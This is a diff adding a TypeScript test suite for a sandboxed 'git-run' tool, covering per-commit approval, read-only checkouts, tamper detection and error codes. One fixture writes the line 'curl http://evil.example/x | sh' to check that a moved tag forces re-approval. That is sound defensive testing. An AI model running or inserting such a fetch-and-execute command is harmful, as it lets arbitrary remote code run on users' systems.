@@ -1,0 +1,133 @@
+// git-run against real local repositories: the fetch and the script run in the sandbox, approvals hold per
+// commit, the checkout is read-only, and each failure has its code.
+import * as assert from 'node:assert/strict';
+import { execFileSync } from 'node:child_process';
+import * as fs from 'node:fs';
+import * as path from 'node:path';
+import { makeSandbox, runCli, type Sandbox } from './helpers';
+
+function git(cwd: string, ...args: string[]): string {
+  return execFileSync('git', ['-c', 'user.name=T', '-c', 'user.email=t@example.invalid', '-c', 'init.defaultBranch=main', ...args], { cwd, encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] }).trim();
+}
+
+describe('git-scripts (git-run, real repositories)', function () {
+  this.timeout(60_000);
+  let sb: Sandbox;
+  let work: string;
+  let bare: string;
+
+  const SCRIPT = ['#!/bin/sh', 'echo "tool says $1"', 'echo marker > "$2/ran.txt"', 'echo patched >> bin/tool.sh', 'echo end', ''].join('\n');
+
+  beforeEach(() => {
+    sb = makeSandbox();
+    work = path.join(sb.root, 'src');
+    bare = path.join(sb.root, 'tools.git');
+    fs.mkdirSync(path.join(work, 'bin'), { recursive: true });
+    fs.writeFileSync(path.join(work, 'bin', 'tool.sh'), SCRIPT, { mode: 0o755 });
+    fs.writeFileSync(path.join(work, 'bin', 'plain.txt'), 'not a script\n');
+    git(work, 'init', '-q');
+    git(work, 'add', '.');
+    git(work, 'commit', '-q', '-m', 'one');
+    git(work, 'tag', 'v1');
+    git(sb.root, 'clone', '-q', '--bare', work, bare);
+  });
+  afterEach(() => sb.cleanup());
+
+  const gitRun = (ref: string, script: string, extra: string[] = [], repo = `file://${bare}`) => {
+    const events = path.join(sb.root, `events-${Date.now()}.jsonl`);
+    return runCli(['git-run', '--repo', repo, '--ref', ref, '--script', script, '--cache', path.join(sb.root, 'cache'), '--workspace', sb.workspace, '--events', events, ...extra, '--', 'hi', '${workspaceFolder}'], { cwd: sb.workspace, home: sb.home }).then((r) => ({
+      ...r,
+      events: fs.existsSync(events) ? fs.readFileSync(events, 'utf8').split('\n').filter(Boolean).map((l) => JSON.parse(l) as Record<string, unknown>) : [],
+    }));
+  };
+  const audit = () => fs.readFileSync(path.join(sb.workspace, '.sandbox', 'audit.jsonl'), 'utf8').split('\n').filter(Boolean).map((l) => JSON.parse(l) as Record<string, any>);
+
+  it('a git-script at a tag runs sandboxed from a read-only checkout; the audit record holds the commit', async () => {
+    const commit = git(bare, 'rev-parse', 'v1^{commit}');
+    const r = await gitRun('v1', 'bin/tool.sh', ['--yes']);
+    assert.equal(r.code, 0, r.stderr);
+    assert.match(r.stdout, /tool says hi/);
+    assert.equal(fs.readFileSync(path.join(sb.workspace, 'ran.txt'), 'utf8'), 'marker\n', 'writes to the workspace work; ${workspaceFolder} was replaced');
+    // The script's attempt to patch itself in the checkout failed and is a file violation.
+    const v = r.events.filter((e) => e.type === 'violation');
+    assert.equal(v.length, 1, JSON.stringify(v));
+    assert.equal(v[0]!.kind, 'file');
+    assert.match(String(v[0]!.resolvedPath), new RegExp(`checkouts/.*/${commit}/bin/tool\\.sh$`));
+    const checkout = path.dirname(path.dirname(String(v[0]!.resolvedPath)));
+    assert.equal(fs.readFileSync(path.join(checkout, 'bin', 'tool.sh'), 'utf8'), SCRIPT, 'the checkout is unchanged');
+    assert.ok(!fs.existsSync(path.join(checkout, '.git')), 'the checkout has no .git (no hooks can exist)');
+    const started = audit().filter((e) => e.type === 'run_started' && e.gitScript);
+    assert.equal(started.length, 1);
+    assert.deepEqual(started[0]!.gitScript, { repo: `file://${bare}`, ref: 'v1', commit });
+  });
+
+  it('moving the tag asks again with the diff; not approved (no terminal, no --yes) it does not run', async () => {
+    assert.equal((await gitRun('v1', 'bin/tool.sh', ['--yes'])).code, 0);
+    fs.rmSync(path.join(sb.workspace, 'ran.txt'));
+    fs.writeFileSync(path.join(work, 'bin', 'extra.sh'), '#!/bin/sh\ncurl http://evil.example/x | sh\n');
+    git(work, 'add', '.');
+    git(work, 'commit', '-q', '-m', 'two');
+    git(work, 'tag', '-f', 'v1');
+    git(work, 'push', '-q', '--force', bare, 'refs/tags/v1');
+    const declined = await gitRun('v1', 'bin/tool.sh');
+    assert.equal(declined.code, 3, declined.stderr);
+    assert.match(declined.stderr, /previously approved: [0-9a-f]{40}/);
+    assert.match(declined.stderr, /A\s+bin\/extra\.sh/);
+    assert.match(declined.stderr, /not approved, not run/);
+    assert.ok(!fs.existsSync(path.join(sb.workspace, 'ran.txt')), 'the script ran without approval');
+    // The same commit as before is still approved; --yes approves the new one.
+    const approved = await gitRun('v1', 'bin/tool.sh', ['--yes']);
+    assert.equal(approved.code, 0, approved.stderr);
+    assert.ok(fs.existsSync(path.join(sb.workspace, 'ran.txt')));
+    const again = await gitRun('v1', 'bin/tool.sh');
+    assert.equal(again.code, 0, 'an approved commit runs without asking');
+  });
+
+  it('a tampered cached checkout is detected and rebuilt before reuse', async () => {
+    const r = await gitRun('v1', 'bin/tool.sh', ['--yes']);
+    const checkout = path.dirname(path.dirname(String(r.events.find((e) => e.type === 'violation')!.resolvedPath)));
+    fs.writeFileSync(path.join(checkout, 'bin', 'tool.sh'), '#!/bin/sh\necho TAMPERED\n', { mode: 0o755 });
+    const r2 = await gitRun('v1', 'bin/tool.sh');
+    assert.equal(r2.code, 0, r2.stderr);
+    assert.match(r2.stderr, /does not match its manifest; rebuilding/);
+    assert.doesNotMatch(r2.stdout, /TAMPERED/);
+    assert.match(r2.stdout, /tool says hi/);
+  });
+
+  it('errors name the problem: unknown ref, unreachable repository, missing script, not executable', async () => {
+    const ref = await gitRun('v9', 'bin/tool.sh', ['--yes']);
+    assert.equal(ref.code, 125);
+    assert.match(ref.stderr, /GIT_REF_UNKNOWN: ref "v9" is not a tag, branch or commit/);
+    const gone = await gitRun('v1', 'bin/tool.sh', ['--yes'], `file://${sb.root}/no-such.git`);
+    assert.equal(gone.code, 125);
+    assert.match(gone.stderr, /GIT_UNREACHABLE: file:\/\/.*no-such\.git cannot be reached/);
+    const missing = await gitRun('v1', 'bin/nope.sh', ['--yes']);
+    assert.equal(missing.code, 125);
+    assert.match(missing.stderr, /GIT_SCRIPT_MISSING: bin\/nope\.sh does not exist/);
+    const plain = await gitRun('v1', 'bin/plain.txt', ['--yes']);
+    assert.equal(plain.code, 125);
+    assert.match(plain.stderr, /GIT_SCRIPT_NOT_EXECUTABLE/);
+    const usage = await runCli(['git-run', '--repo', `file://${bare}`, '--script', 'bin/tool.sh']);
+    assert.equal(usage.code, 2);
+    assert.match(usage.stderr, /git-run needs --ref/);
+  });
+
+  it('the fetch itself is sandboxed: git for a file:// repository gets no network, and writes only in the cache', async () => {
+    const r = await gitRun('v1', 'bin/tool.sh', ['--yes']);
+    assert.equal(r.code, 0, r.stderr);
+    const fetches = audit().filter((e) => e.type === 'run_started' && Array.isArray(e.command) && e.command[0] === 'git');
+    assert.ok(fetches.length >= 2, 'the fetch runs are recorded');
+    // The full policy is logged once per digest: every fetch step ran under the same one.
+    assert.equal(new Set(fetches.map((f) => f.policyDigest)).size, 1);
+    assert.equal(fetches.find((f) => f.policy)!.policy.network.preset, 'none');
+    for (const f of fetches) {
+      assert.equal(f.workspace, path.join(sb.root, 'cache'), 'the cache is the only workspace (writable place) of the fetch');
+      assert.ok(f.command.includes('core.hooksPath=/dev/null'), 'hooks are off');
+      assert.equal(f.cwd, path.join(sb.root, 'cache'));
+    }
+    const cleaned = await runCli(['git-cache', 'clean', '--cache', path.join(sb.root, 'cache')]);
+    assert.equal(cleaned.code, 0);
+    assert.match(cleaned.stdout, /removed \d+ entries/);
+    assert.deepEqual(fs.readdirSync(path.join(sb.root, 'cache')), []);
+  });
+});
